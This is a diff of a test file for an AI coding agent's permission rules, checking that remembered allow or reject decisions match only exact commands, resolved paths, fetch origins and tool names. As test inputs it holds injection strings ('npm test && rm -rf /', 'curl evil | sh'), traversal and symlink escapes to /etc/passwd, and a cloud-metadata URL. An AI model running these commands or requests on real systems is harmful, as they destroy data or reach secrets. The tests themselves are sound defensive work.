@@ -1,26 +1,28 @@
 import { describe, expect, it } from 'vitest'
-import { answerByRules, matchCommand, matchPath, ruleFromDecision, ruleMatches, type PermissionRule } from '../../../main/permissions/rules'
+import { answerByRules, describeRule, matchCommand, matchPath, migrateRule, ruleFromDecision, ruleMatches, type PermissionRule } from '../../../main/permissions/rules'
 import type { PermissionFacts } from '../../../main/permissions/normalize'
+import { resolvePath, subjectIdentity, type SubjectIdentity } from '../../../main/permissions/subject-identity'
 
-const scope = { agentId: 'agent-a', cwd: '/proj' }
+const scope = { agentId: 'agent-a', cwd: '/proj', sessionId: 's1' }
 
-function rule(over: Partial<PermissionRule> = {}): PermissionRule {
-  return {
-    ruleId: 'r1',
-    agentId: 'agent-a',
-    agentName: 'Agent A',
-    cwd: '/proj',
-    toolKind: 'execute',
-    decision: 'allow_always',
-    command: { type: 'exact', value: 'rm -rf /tmp' },
-    paths: null,
-    label: 'test rule',
-    createdAt: 0,
-    ...over,
-  }
+/** A fake file system: `/proj/link` → `/etc`, `/proj/out` → `/`; nothing else is a symlink. */
+const realpath = (path: string): string => {
+  if (path === '/proj/link' || path.startsWith('/proj/link/')) return '/etc' + path.slice('/proj/link'.length)
+  if (path === '/proj/out') return '/'
+  if (path.startsWith('/missing')) throw Object.assign(new Error('ENOENT'), { code: 'ENOENT' })
+  return path
 }
 
-const facts = (over: Partial<PermissionFacts> = {}): PermissionFacts => ({ toolKind: 'execute', command: 'rm -rf /tmp', paths: [], ...over })
+const facts = (over: Partial<PermissionFacts> = {}): PermissionFacts => ({
+  toolKind: 'execute',
+  commandSubject: null,
+  rawInput: { command: 'rm -rf /tmp' },
+  toolName: null,
+  toolTitle: null,
+  locations: [],
+  ...over,
+})
+const identity = (over: Partial<PermissionFacts> = {}): SubjectIdentity => subjectIdentity(facts(over), '/proj', realpath)
 
 const offered = [
   { optionId: 'a1', name: 'Allow once', kind: 'allow_once' },
@@ -29,106 +31,199 @@ const offered = [
   { optionId: 'ra', name: 'Never', kind: 'reject_always' },
 ]
 
+function remembered(over: Partial<PermissionFacts> = {}, decision: PermissionRule['decision'] = 'allow_always'): PermissionRule {
+  const rule = ruleFromDecision({ ruleId: 'r1', scope, agentName: 'Agent A', identity: identity(over), decision, now: 5 })
+  if (!rule) throw new Error('no rule')
+  return rule
+}
+
+const matches = (rule: PermissionRule, over: Partial<PermissionFacts>, s: Partial<typeof scope> = {}) =>
+  ruleMatches(rule, { ...scope, ...s }, identity(over), realpath)
+
+describe('subject identity', () => {
+  it('commands: exact string or argv, and the resolved working folder', () => {
+    expect(identity().command).toEqual({ type: 'string', value: 'rm -rf /tmp' })
+    expect(identity({ rawInput: { command: ['rm', '-rf', 'build dir'] } }).command).toEqual({ type: 'argv', value: ['rm', '-rf', 'build dir'] })
+    expect(identity({ rawInput: { command: 'rm', args: ['-rf', 'x'] } }).command).toEqual({ type: 'argv', value: ['rm', '-rf', 'x'] })
+    expect(identity().workdir).toBe('/proj')
+    expect(identity({ rawInput: { command: 'ls', cwd: 'link/ssh' } }).workdir).toBe('/etc/ssh')
+    expect(identity({ commandSubject: { command: 'ls', cwd: '/proj/sub' }, rawInput: undefined }).workdir).toBe('/proj/sub')
+    expect(identity().remember).toEqual({ scope: 'rule' })
+  })
+
+  it('file operations: every path named, resolved, from every field', () => {
+    const id = identity({
+      toolKind: 'move',
+      rawInput: { source: 'a.ts', destination: '../etc/x', nested: { new_path: 'link/passwd' } },
+      locations: ['/proj/a.ts'],
+    })
+    expect(id.paths).toEqual(['/etc/passwd', '/etc/x', '/proj/a.ts'])
+    expect(id.extras?.keys).toEqual(['nested'])
+    const patch = '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-x\n+y\n*** Add File: /home/u/.bashrc\n*** End Patch\n'
+    expect(identity({ toolKind: 'edit', rawInput: { patch } }).paths).toEqual(['/home/u/.bashrc', '/proj/src/a.ts'])
+    const diff = 'diff --git a/x.ts b/y.ts\n--- a/x.ts\n+++ b/y.ts\n'
+    expect(identity({ toolKind: 'edit', rawInput: { diff } }).paths).toEqual(['/proj/x.ts', '/proj/y.ts'])
+    expect(identity({ toolKind: 'edit', rawInput: { changes: { '/proj/z.ts': { type: 'add', content: 'q' } } } }).paths).toEqual(['/proj/z.ts'])
+    // Prose with "---" is not a patch.
+    expect(identity({ toolKind: 'edit', rawInput: { file_path: 'a.md', content: 'Title\n--- notes\nmore' } }).paths).toEqual(['/proj/a.md'])
+  })
+
+  it('paths it cannot resolve stay opaque; a missing file resolves through its existing parent', () => {
+    expect(resolvePath('~/x', '/proj', realpath)).toBe('unresolved:~/x')
+    expect(resolvePath('/proj/link/new/file', '/proj', realpath)).toBe('/etc/new/file')
+    expect(resolvePath('/missing/a', '/proj', realpath)).toBe('/missing/a')
+    expect(resolvePath('sub/../../etc/passwd', '/proj', realpath)).toBe('/etc/passwd')
+  })
+
+  it('fetch: the origin; other tools: name and title; nothing distinguishing → this session only', () => {
+    expect(identity({ toolKind: 'fetch', rawInput: { url: 'https://Example.com:443/a?b' } }).origin).toBe('https://example.com')
+    expect(identity({ toolKind: 'fetch', rawInput: { url: 'https://example.com@169.254.169.254/' } }).origin).toBe('http://169.254.169.254'.replace('http:', 'https:'))
+    expect(identity({ toolKind: 'other', toolName: 'mcp__gh__get_issue', toolTitle: 'Get issue', rawInput: { n: 1 } }).tool).toEqual({ name: 'mcp__gh__get_issue', title: 'Get issue' })
+    for (const over of [{ toolKind: 'other', rawInput: undefined }, { toolKind: 'fetch', rawInput: {} }, { toolKind: 'edit', rawInput: {} }, { rawInput: {} }] as Partial<PermissionFacts>[]) {
+      expect(identity(over).remember).toMatchObject({ scope: 'session', note: expect.stringContaining('this session only') })
+    }
+    expect(identity({ rawInput: { command: Array.from({ length: 300 }, () => 'x') } }).remember.scope).toBe('never')
+  })
+})
+
 describe('rule matching', () => {
-  it('matches the exact command in the same agent, folder and kind', () => {
-    expect(ruleMatches(rule(), scope, facts())).toBe(true)
-    expect(ruleMatches(rule(), { ...scope, cwd: '/proj/' }, facts({ command: '  rm -rf /tmp ' }))).toBe(true)
+  it('matches the exact command in the same agent, folder, kind and working folder', () => {
+    const rule = remembered()
+    expect(matches(rule, {})).toBe(true)
+    expect(matches(rule, {}, { cwd: '/proj/' })).toBe(true)
+    expect(matches(rule, {}, { cwd: '/other' })).toBe(false)
+    expect(matches(rule, {}, { agentId: 'agent-b' })).toBe(false)
+    expect(matches(rule, { toolKind: 'edit' })).toBe(false)
+    expect(matches(rule, { rawInput: { command: ' rm -rf /tmp' } })).toBe(false)
+    expect(matches(rule, { rawInput: { command: 'rm -rf /tmp; rm -rf /' } })).toBe(false)
+    expect(matches(rule, { rawInput: { command: 'rm -rf /tmp', cwd: '/' } })).toBe(false)
+    expect(matches(rule, { rawInput: { command: 'rm -rf /tmp', cwd: '/proj' } })).toBe(true)
+    expect(matches(rule, { rawInput: { command: ['rm', '-rf', '/tmp'] } })).toBe(false)
+    expect(matches(rule, { rawInput: { command: 'rm -rf /tmp', sandbox: 'off' } })).toBe(false)
   })
 
-  it('does not match near misses', () => {
-    expect(ruleMatches(rule(), { ...scope, cwd: '/other' }, facts())).toBe(false)
-    expect(ruleMatches(rule(), { ...scope, cwd: '/proj/sub' }, facts())).toBe(false)
-    expect(ruleMatches(rule(), { ...scope, agentId: 'agent-b' }, facts())).toBe(false)
-    expect(ruleMatches(rule(), scope, facts({ toolKind: 'edit' }))).toBe(false)
-    expect(ruleMatches(rule(), scope, facts({ toolKind: null }))).toBe(false)
-    // Command prefix tricks.
-    expect(ruleMatches(rule(), scope, facts({ command: 'rm -rf /' }))).toBe(false)
-    expect(ruleMatches(rule({ command: { type: 'exact', value: 'rm -rf /' } }), scope, facts({ command: 'rm -rf /tmp' }))).toBe(false)
-    expect(ruleMatches(rule(), scope, facts({ command: 'rm -rf /tmp; rm -rf /' }))).toBe(false)
-    expect(ruleMatches(rule(), scope, facts({ command: 'rm -rf /tmp/../..' }))).toBe(false)
-    // A rule with a command never covers a request without one, nor the reverse.
-    expect(ruleMatches(rule(), scope, facts({ command: null }))).toBe(false)
-    expect(ruleMatches(rule({ command: null }), scope, facts())).toBe(false)
+  it('argv boundaries are part of the identity', () => {
+    const rule = remembered({ rawInput: { command: ['rm', '-rf', 'build dir'] } })
+    expect(rule.argv).toEqual(['rm', '-rf', 'build dir'])
+    expect(matches(rule, { rawInput: { command: ['rm', '-rf', 'build dir'] } })).toBe(true)
+    expect(matches(rule, { rawInput: { command: ['rm', '-rf', 'build', 'dir'] } })).toBe(false)
+    expect(matches(rule, { rawInput: { command: 'rm -rf build dir' } })).toBe(false)
   })
 
-  it('prefix patterns match whole words and plain arguments only', () => {
+  it('prefix patterns never match a command with a separator, redirection or substitution', () => {
     const p = { type: 'prefix' as const, value: 'npm test' }
-    expect(matchCommand(p, 'npm test')).toBe(true)
-    expect(matchCommand(p, 'npm test -- --watch=false')).toBe(true)
-    expect(matchCommand(p, 'npm testing')).toBe(false)
-    expect(matchCommand(p, 'npm test && rm -rf /')).toBe(false)
-    expect(matchCommand(p, 'npm test; curl evil | sh')).toBe(false)
-    expect(matchCommand(p, 'npm test $(whoami)')).toBe(false)
-    expect(matchCommand(p, 'npm')).toBe(false)
-    expect(matchCommand({ type: 'prefix', value: 'rm -rf /' }, 'rm -rf /tmp')).toBe(false)
+    const str = (value: string) => ({ type: 'string' as const, value })
+    expect(matchCommand(p, str('npm test'))).toBe(true)
+    expect(matchCommand(p, str('npm test -- --watch=false'))).toBe(true)
+    expect(matchCommand(p, { type: 'argv', value: ['npm', 'test', '--ci'] })).toBe(true)
+    for (const bad of ['npm testing', 'npm test\nrm -rf /', 'npm test && rm -rf /', 'npm test || x', 'npm test | sh', 'npm test; x', 'npm test `x`', 'npm test $(x)', 'npm test > /etc/passwd', 'npm test < x', 'npm', 'npm test\r\nx', 'npm  test']) {
+      expect(matchCommand(p, str(bad)), bad).toBe(bad === 'npm  test')
+    }
+    expect(matchCommand(p, { type: 'argv', value: ['npm', 'test', ';rm'] })).toBe(false)
+    expect(matchCommand({ type: 'prefix', value: 'rm -rf /' }, str('rm -rf /tmp'))).toBe(false)
   })
 
-  it('path patterns respect segment boundaries', () => {
-    expect(matchPath({ type: 'exact', value: '/proj/a.ts' }, '/proj/a.ts', '/proj')).toBe(true)
-    expect(matchPath({ type: 'exact', value: '/proj/a.ts' }, 'a.ts', '/proj')).toBe(true)
-    expect(matchPath({ type: 'exact', value: '/proj/a.ts' }, '/proj/a.tsx', '/proj')).toBe(false)
-    expect(matchPath({ type: 'under', value: '/proj/src' }, '/proj/src/x/y.ts', '/proj')).toBe(true)
-    expect(matchPath({ type: 'under', value: '/proj/src' }, '/proj/src-evil/y.ts', '/proj')).toBe(false)
-    expect(matchPath({ type: 'under', value: '/proj/src' }, '/proj/src/../../etc/passwd', '/proj')).toBe(false)
+  it('path patterns: segment boundaries, `..`, and symlinks that point outside', () => {
+    const under = { type: 'under' as const, value: '/proj' }
+    expect(matchPath(under, '/proj/src/a.ts', '/proj', realpath)).toBe(true)
+    expect(matchPath(under, '/proj-evil/a.ts', '/proj', realpath)).toBe(false)
+    expect(matchPath(under, resolvePath('/proj/src/../../etc/passwd', '/proj', realpath), '/proj', realpath)).toBe(false)
+    expect(matchPath(under, resolvePath('/proj/link/passwd', '/proj', realpath), '/proj', realpath)).toBe(false)
+    expect(matchPath(under, resolvePath('~/x', '/proj', realpath), '/proj', realpath)).toBe(false)
   })
 
-  it('paths: every requested path must be covered', () => {
-    const r = rule({ toolKind: 'edit', command: null, paths: [{ type: 'exact', value: '/proj/a.ts' }] })
-    expect(ruleMatches(r, scope, facts({ toolKind: 'edit', command: null, paths: ['/proj/a.ts'] }))).toBe(true)
-    expect(ruleMatches(r, scope, facts({ toolKind: 'edit', command: null, paths: ['/proj/a.ts', '/proj/b.ts'] }))).toBe(false)
-    expect(ruleMatches(r, scope, facts({ toolKind: 'edit', command: null, paths: [] }))).toBe(false)
+  it('exact path rules cover the same set of files, no more, no fewer', () => {
+    const rule = remembered({ toolKind: 'edit', rawInput: { file_path: 'a.ts' } })
+    expect(rule.paths).toEqual([{ type: 'exact', value: '/proj/a.ts' }])
+    expect(matches(rule, { toolKind: 'edit', rawInput: { file_path: '/proj/a.ts' } })).toBe(true)
+    expect(matches(rule, { toolKind: 'edit', rawInput: { file_path: 'a.ts', destination: 'b.ts' } })).toBe(false)
+    expect(matches(rule, { toolKind: 'edit', rawInput: {}, locations: ['/proj/a.ts', '/proj/b.ts'] })).toBe(false)
+    expect(matches(rule, { toolKind: 'edit', rawInput: {} })).toBe(false)
+  })
+
+  it('fetch rules keep the origin; tool rules the tool’s own name', () => {
+    const fetch = remembered({ toolKind: 'fetch', rawInput: { url: 'https://docs.example.com/a' } })
+    expect(matches(fetch, { toolKind: 'fetch', rawInput: { url: 'https://docs.example.com/b' } })).toBe(true)
+    expect(matches(fetch, { toolKind: 'fetch', rawInput: { url: 'http://169.254.169.254/latest/meta-data' } })).toBe(false)
+    expect(matches(fetch, { toolKind: 'fetch', rawInput: {} })).toBe(false)
+    const tool = remembered({ toolKind: 'other', toolName: 'mcp__gh__get_issue', toolTitle: 'Get issue', rawInput: { n: 1 } })
+    expect(matches(tool, { toolKind: 'other', toolName: 'mcp__gh__get_issue', toolTitle: 'Get issue', rawInput: { n: 1 } })).toBe(true)
+    expect(matches(tool, { toolKind: 'other', toolName: 'mcp__gh__delete_repo', toolTitle: 'Get issue', rawInput: { n: 1 } })).toBe(false)
+    expect(matches(tool, { toolKind: 'other', toolName: 'mcp__gh__get_issue', toolTitle: 'Get issue', rawInput: { n: 2 } })).toBe(false)
+  })
+
+  it('a rule from a vague request is scoped to its session', () => {
+    const rule = remembered({ toolKind: 'other', rawInput: undefined })
+    expect(rule.sessionId).toBe('s1')
+    expect(rule.label).toContain('this session only')
+    expect(matches(rule, { toolKind: 'other', rawInput: undefined })).toBe(true)
+    expect(matches(rule, { toolKind: 'other', rawInput: undefined }, { sessionId: 's2' })).toBe(false)
   })
 })
 
 describe('answerByRules', () => {
-  it('answers with the offered option of the same kind', () => {
-    expect(answerByRules([rule()], scope, facts(), offered)).toEqual({ rule: rule(), option: offered[1] })
-    const reject = rule({ ruleId: 'r2', decision: 'reject_always' })
-    expect(answerByRules([reject], scope, facts(), offered)?.option.optionId).toBe('ra')
+  it('answers with the offered option of the same kind; reject wins', () => {
+    expect(answerByRules([remembered()], scope, identity(), offered, realpath)?.option.optionId).toBe('aa')
+    const both = [remembered(), { ...remembered({}, 'reject_always'), ruleId: 'r2' }]
+    expect(answerByRules(both, scope, identity(), offered, realpath)?.option.optionId).toBe('ra')
   })
 
   it('asks when the rule kind is not offered, and never picks an unknown kind', () => {
-    expect(answerByRules([rule()], scope, facts(), offered.filter((o) => o.kind !== 'allow_always'))).toBeNull()
+    expect(answerByRules([remembered()], scope, identity(), offered.filter((o) => o.kind !== 'allow_always'), realpath)).toBeNull()
     const weird = [
       { optionId: 'x', name: 'Allow', kind: 'allow' },
       { optionId: 'y', name: 'Sandbox', kind: '_acme_sandbox' },
       { optionId: 'z', name: 'Once', kind: 'allow_once' },
     ]
-    expect(answerByRules([rule()], scope, facts(), weird)).toBeNull()
-  })
-
-  it('a matching reject rule wins over an allow rule', () => {
-    const both = [rule(), rule({ ruleId: 'r2', decision: 'reject_always' })]
-    expect(answerByRules(both, scope, facts(), offered)?.option.optionId).toBe('ra')
-  })
-
-  it('answers nothing for a near miss', () => {
-    expect(answerByRules([rule()], scope, facts({ command: 'rm -rf /' }), offered)).toBeNull()
+    expect(answerByRules([remembered()], scope, identity(), weird, realpath)).toBeNull()
   })
 })
 
-describe('ruleFromDecision', () => {
-  it('remembers agent, folder, kind and the exact command', () => {
-    const r = ruleFromDecision({ ruleId: 'n', scope, agentName: 'Agent A', facts: facts({ command: 'npm test' }), decision: 'allow_always', now: 5 })
-    expect(r).toMatchObject({ agentId: 'agent-a', cwd: '/proj', toolKind: 'execute', command: { type: 'exact', value: 'npm test' }, paths: null, createdAt: 5 })
-    expect(r!.label).toContain('npm test')
-    expect(ruleMatches(r!, scope, facts({ command: 'npm test' }))).toBe(true)
-    expect(ruleMatches(r!, scope, facts({ command: 'npm test && rm -rf /' }))).toBe(false)
+describe('older rules', () => {
+  const old = (over: Partial<PermissionRule>): PermissionRule => ({
+    ruleId: 'o',
+    agentId: 'agent-a',
+    agentName: 'Agent A',
+    cwd: '/proj',
+    toolKind: 'execute',
+    decision: 'allow_always',
+    command: { type: 'exact', value: 'npm test' },
+    paths: [{ type: 'exact', value: '/proj' }],
+    label: 'old',
+    createdAt: 0,
+    ...over,
   })
 
-  it('a command remembered with its folder does not cover the same command elsewhere', () => {
-    const r = ruleFromDecision({ ruleId: 'n', scope, agentName: 'A', facts: { toolKind: 'execute', command: 'rm -rf build', paths: ['/proj'] }, decision: 'allow_always', now: 0 })
-    expect(ruleMatches(r!, scope, { toolKind: 'execute', command: 'rm -rf build', paths: ['/proj'] })).toBe(true)
-    expect(ruleMatches(r!, scope, { toolKind: 'execute', command: 'rm -rf build', paths: ['/'] })).toBe(false)
-    expect(ruleMatches(r!, scope, { toolKind: 'execute', command: 'rm -rf build', paths: [] })).toBe(false)
+  it('keeps exact commands and paths with the same meaning', () => {
+    const command = migrateRule(old({}))
+    expect(command).toMatchObject({ format: 2, workdir: '/proj', paths: null })
+    expect(command.retired ?? null).toBeNull()
+    expect(matches(command, { rawInput: { command: 'npm test' } })).toBe(true)
+    expect(matches(command, { rawInput: { command: 'npm test', extra: 1 } })).toBe(false)
+    const file = migrateRule(old({ toolKind: 'edit', command: null, paths: [{ type: 'exact', value: '/proj/a.ts' }] }))
+    expect(matches(file, { toolKind: 'edit', rawInput: { file_path: 'a.ts' } })).toBe(true)
   })
 
-  it('resolves relative paths against the folder', () => {
-    const r = ruleFromDecision({ ruleId: 'n', scope, agentName: 'A', facts: { toolKind: 'edit', command: null, paths: ['src/a.ts'] }, decision: 'reject_always', now: 0 })
-    expect(r!.paths).toEqual([{ type: 'exact', value: '/proj/src/a.ts' }])
+  it('retires rules that covered a whole kind, and never applies them', () => {
+    for (const toolKind of ['fetch', 'other', 'execute', 'edit']) {
+      const rule = migrateRule(old({ toolKind, command: null, paths: null }))
+      expect(rule.retired?.reason).toMatch(/covered every/)
+      expect(rule.label).toContain(`every ${toolKind} request`)
+      expect(ruleMatches(rule, scope, identity({ toolKind, rawInput: undefined }), realpath)).toBe(false)
+    }
   })
+})
 
-  it('refuses to remember a request with no kind, command or path', () => {
-    expect(ruleFromDecision({ ruleId: 'n', scope, agentName: 'A', facts: { toolKind: null, command: null, paths: [] }, decision: 'allow_always', now: 0 })).toBeNull()
+describe('rule words', () => {
+  it('says what the rule covers', () => {
+    const base = remembered({ rawInput: { command: 'npm test', cwd: '/home/me/src/app' } })
+    expect(describeRule({ ...base, agentName: 'Claude' }, '/home/me')).toBe('Always allow `npm test` in ~/src/app (Claude)')
+    const read: PermissionRule = { ...base, command: null, workdir: null, toolKind: 'read', paths: [{ type: 'under', value: '/home/me/src/app' }] }
+    expect(describeRule(read, '/nowhere')).toBe('Always allow reading files inside /home/me/src/app (Agent A)')
+    const argv = remembered({ rawInput: { command: ['rm', '-rf', 'build dir'] } })
+    expect(describeRule(argv, '/nowhere')).toBe("Always allow `rm -rf 'build dir'` (exactly these 3 arguments) in /proj (Agent A)")
+    const tool = remembered({ toolKind: 'other', toolName: 'mcp__gh__get_issue', toolTitle: 'Get issue', rawInput: { n: 1 } }, 'reject_always')
+    expect(tool.label).toBe('Always reject the tool “mcp__gh__get_issue” titled “Get issue” with the same n as approved (Agent A)')
+    expect(remembered({ toolKind: 'fetch', rawInput: { url: 'https://x.org/a' } }).label).toBe('Always allow fetching from https://x.org (Agent A)')
   })
 })
